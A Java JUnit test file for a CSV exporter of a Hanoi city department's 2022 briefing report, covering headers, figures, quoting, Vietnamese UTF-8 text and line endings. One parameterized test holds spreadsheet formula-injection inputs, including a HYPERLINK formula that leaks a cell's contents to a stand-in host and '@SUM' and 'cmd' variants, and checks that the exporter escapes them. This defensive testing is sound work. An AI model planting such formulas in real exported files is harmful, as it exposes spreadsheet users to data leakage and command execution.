package org.giaoban.reporting.briefing.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.giaoban.reporting.briefing.web.ReferenceBriefing.CITY;
import static org.giaoban.reporting.briefing.web.ReferenceBriefing.CONTEST;
import static org.giaoban.reporting.briefing.web.ReferenceBriefing.HOAN_KIEM;
import static org.giaoban.reporting.briefing.web.ReferenceBriefing.PHUC_THO;
import static org.giaoban.reporting.briefing.web.ReferenceBriefing.TRICKY_LINE;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.giaoban.reporting.briefing.query.BriefingReport;
import org.giaoban.reporting.briefing.query.BriefingReport.TaskFigures;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BriefingCsvTest {

    private final String csv = BriefingCsv.render(ReferenceBriefing.hanoi2022());

    @Test
    void startsWithTheHeaderAndEveryRowHasItsFiveFields() {
        List<List<String>> records = parse(csv);

        assertThat(records.get(0)).containsExactly("part", "unitId", "unitName", "item", "value");
        assertThat(records).allSatisfy(record -> assertThat(record).hasSize(5));
    }

    @Test
    void opensWithTheReportItself() {
        assertThat(parse(csv).subList(1, 7))
                .containsExactly(
                        List.of("report", "HN", CITY, "from", "2022-01-01"),
                        List.of("report", "HN", CITY, "to", "2022-09-08"),
                        List.of("report", "HN", CITY, "unitId", "HN"),
                        List.of("report", "HN", CITY, "recordedAt", "2022-10-06T00:00:00Z"),
                        List.of("report", "HN", CITY, "position.tasks", "1234"),
                        List.of("report", "HN", CITY, "position.training", "1250000"));
    }

    @Test
    void printsTheHeadlineFiguresOnTheReportsUnit() {
        List<List<String>> records = parse(csv);

        assertThat(value(records, "tasks", "HN", "due")).isEqualTo("87");
        assertThat(value(records, "tasks", "HN", "completed")).isEqualTo("84");
        assertThat(value(records, "tasks", "HN", "open")).isEqualTo("3");
        assertThat(value(records, "tasks", "HN", "completionRate")).isEqualTo("0.9655");
        assertThat(value(records, "documents", "HN", "issued")).isEqualTo("1420");
        assertThat(value(records, "documents", "HN", "issued.PLAN")).isEqualTo("300");
        assertThat(value(records, "training", "HN", "classes")).isEqualTo("1418");
        assertThat(value(records, "training", "HN", "learnerTurns")).isEqualTo("230516");
        assertThat(value(records, "training", "HN", "classes.PARTY")).isEqualTo("614");
        assertThat(value(records, "training", "HN", "learnerTurns.PARTY")).isEqualTo("102068");
        assertThat(value(records, "training", "HN", "learnerTurns.MASS_ORGANISATIONS"))
                .isEqualTo("52467");
        assertThat(value(records, "training", "HN", "learnerTurns.STATE")).isEqualTo("71215");
        assertThat(value(records, "training", "HN", "classes.OTHER")).isEqualTo("26");
        assertThat(value(records, "training", "HN", "learnerTurns.OTHER")).isEqualTo("4766");
        assertThat(value(records, "training", "HN", "classes.ONLINE")).isEqualTo("300");
    }

    @Test
    void writesEachFigureOnceSoThatAFilterPicksOneRow() {
        List<List<String>> keys =
                parse(csv).stream().map(record -> record.subList(0, 4)).toList();

        assertThat(keys).doesNotHaveDuplicates();
    }

    @Test
    void byUnitRowsCarryTheUnitOfTheRowApartFromTheTotal() {
        List<List<String>> records = parse(csv);

        assertThat(records).contains(List.of("training", "HN-HOANKIEM", HOAN_KIEM, "byUnit.classes", "60"));
        assertThat(records).contains(List.of("training", "HN-HOANKIEM", HOAN_KIEM, "byUnit.learnerTurns", "9000"));
        assertThat(value(records, "tasks", "HN", "byUnit.due")).isEqualTo("60");
        assertThat(value(records, "tasks", "HN", "due")).isEqualTo("87");
        assertThat(value(records, "documents", "HN", "byUnit.issued")).isEqualTo("1000");
    }

    @Test
    void namesAPlanLineByItsYearLabelAndBlocs() {
        List<List<String>> records = parse(csv);

        assertThat(records)
                .contains(
                        List.of(
                                "trainingPlans",
                                "HN-HOANKIEM",
                                HOAN_KIEM,
                                "2022 Khối Đảng và đoàn thể [PARTY MASS_ORGANISATIONS] planned",
                                "66"),
                        List.of(
                                "trainingPlans",
                                "HN-HOANKIEM",
                                HOAN_KIEM,
                                "2022 Khối Đảng và đoàn thể [PARTY MASS_ORGANISATIONS] actual",
                                "40"),
                        List.of(
                                "trainingPlans",
                                "HN-HOANKIEM",
                                HOAN_KIEM,
                                "2022 Quản lý nhà nước [STATE] planned",
                                "31"));
    }

    @Test
    void quotesALabelHoldingACommaAndQuotesAndDoublesTheQuotes() {
        assertThat(csv)
                .contains(
                        "trainingPlans,HN-PHUCTHO," + PHUC_THO
                                + ",\"2022 Lớp \"\"Học tập và làm theo tư tưởng, đạo đức, phong cách Hồ Chí Minh\"\" [OTHER] planned\",5\r\n");
        assertThat(parse(csv))
                .contains(List.of(
                        "trainingPlans", "HN-PHUCTHO", PHUC_THO, "2022 " + TRICKY_LINE + " [OTHER] planned", "5"));
    }

    @Test
    void printsContestEntriesPlainlyOnTheReportsUnit() {
        List<List<String>> records = parse(csv);

        assertThat(records).contains(List.of("contests", "HN", CITY, CONTEST + " entries", "1000000"));
        assertThat(records).contains(List.of("contests", "HN", CITY, CONTEST + " participants", "700000"));
        assertThat(csv).doesNotContain("1,000,000").doesNotContain("1.000.000");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.com/?q=\"&A1,\"Bấm vào đây\")",
                "+1+1",
                "-2+3",
                "@SUM(A1)",
                "\tcmd",
                "\rcmd"
            })
    void writesATitleThatASpreadsheetWouldRunAsTextAfterAQuote(String title) {
        String csv = BriefingCsv.render(ReferenceBriefing.withContestTitled(title));

        assertThat(csv).contains(",\"'" + title.replace("\"", "\"\"") + " entries\",1000000\r\n");
        assertThat(parse(csv)).contains(List.of("contests", "HN", CITY, "'" + title + " entries", "1000000"));
    }

    @Test
    void leavesFiguresAndOrdinaryTextAsTheyAre() {
        assertThat(csv).contains("tasks,HN," + CITY + ",completionRate,0.9655\r\n");
        assertThat(parse(csv)).contains(List.of("contests", "HN", CITY, CONTEST + " entries", "1000000"));
    }

    @Test
    void vietnameseRoundTripsThroughUtf8() {
        byte[] sent = csv.getBytes(StandardCharsets.UTF_8);

        List<List<String>> received = parse(new String(sent, StandardCharsets.UTF_8));

        assertThat(received.stream().skip(1).map(record -> record.get(2)).distinct())
                .containsExactlyInAnyOrder(
                        CITY, HOAN_KIEM, ReferenceBriefing.LONG_BIEN, ReferenceBriefing.QUOC_OAI, PHUC_THO);
        assertThat(received.get(1).get(2)).isEqualTo("Ban Tuyên giáo Thành ủy Hà Nội");
    }

    @Test
    void endsEveryLineWithCrLf() {
        assertThat(csv).endsWith("\r\n");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\r").doesNotContain("\n");
    }

    @Test
    void printsASmallRateWithADotAndNoExponent() {
        BriefingReport reference = ReferenceBriefing.hanoi2022();
        BriefingReport report = new BriefingReport(
                reference.from(),
                reference.to(),
                reference.unitId(),
                reference.unitName(),
                reference.recordedAt(),
                new TaskFigures(10000, 1, 9999, 0, 0.0001, List.of()),
                reference.documents(),
                reference.training(),
                reference.trainingPlans(),
                reference.contests(),
                reference.position());

        assertThat(value(parse(BriefingCsv.render(report)), "tasks", "HN", "completionRate"))
                .isEqualTo("0.0001");
    }

    @Test
    void rendersAnEmptyReportWithZerosAndEmptyFields() {
        List<List<String>> records = parse(BriefingCsv.render(ReferenceBriefing.empty()));

        assertThat(value(records, "report", "HN-SONTAY", "recordedAt")).isEmpty();
        assertThat(value(records, "report", "HN-SONTAY", "position.tasks")).isEmpty();
        assertThat(value(records, "tasks", "HN-SONTAY", "due")).isEqualTo("0");
        assertThat(value(records, "tasks", "HN-SONTAY", "completionRate")).isEmpty();
        assertThat(value(records, "documents", "HN-SONTAY", "issued.RESOLUTION"))
                .isEqualTo("0");
        assertThat(value(records, "training", "HN-SONTAY", "learnerTurns.PARTY"))
                .isEqualTo("0");
        assertThat(records)
                .extracting(record -> record.get(0))
                .doesNotContain("trainingPlans", "contests")
                .allMatch(part -> List.of("part", "report", "tasks", "documents", "training")
                        .contains(part));
    }

    private static String value(List<List<String>> records, String part, String unitId, String item) {
        List<String> values = records.stream()
                .filter(record -> record.get(0).equals(part)
                        && record.get(1).equals(unitId)
                        && record.get(3).equals(item))
                .map(record -> record.get(4))
                .toList();
        assertThat(values).as("%s,%s,%s", part, unitId, item).hasSize(1);
        return values.get(0);
    }

    /** RFC 4180, strictly: records end in CRLF, a field is quoted or holds no quote, CR or LF. */
    private static List<List<String>> parse(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int at = 0;
        while (at < text.length()) {
            if (text.charAt(at) == '"') {
                at++;
                while (true) {
                    if (at >= text.length()) {
                        throw new IllegalArgumentException("unclosed quote");
                    }
                    char c = text.charAt(at++);
                    if (c == '"') {
                        if (at < text.length() && text.charAt(at) == '"') {
                            field.append('"');
                            at++;
                        } else {
                            break;
                        }
                    } else {
                        field.append(c);
                    }
                }
            } else {
                while (at < text.length() && ",\r\n".indexOf(text.charAt(at)) < 0) {
                    if (text.charAt(at) == '"') {
                        throw new IllegalArgumentException("quote inside an unquoted field at " + at);
                    }
                    field.append(text.charAt(at++));
                }
            }
            record.add(field.toString());
            field.setLength(0);
            if (at < text.length() && text.charAt(at) == ',') {
                at++;
            } else if (text.startsWith("\r\n", at)) {
                at += 2;
                records.add(record);
                record = new ArrayList<>();
            } else {
                throw new IllegalArgumentException("expected a comma or CRLF at " + at);
            }
        }
        if (!record.isEmpty()) {
            throw new IllegalArgumentException("last record without CRLF");
        }
        return records;
    }
}
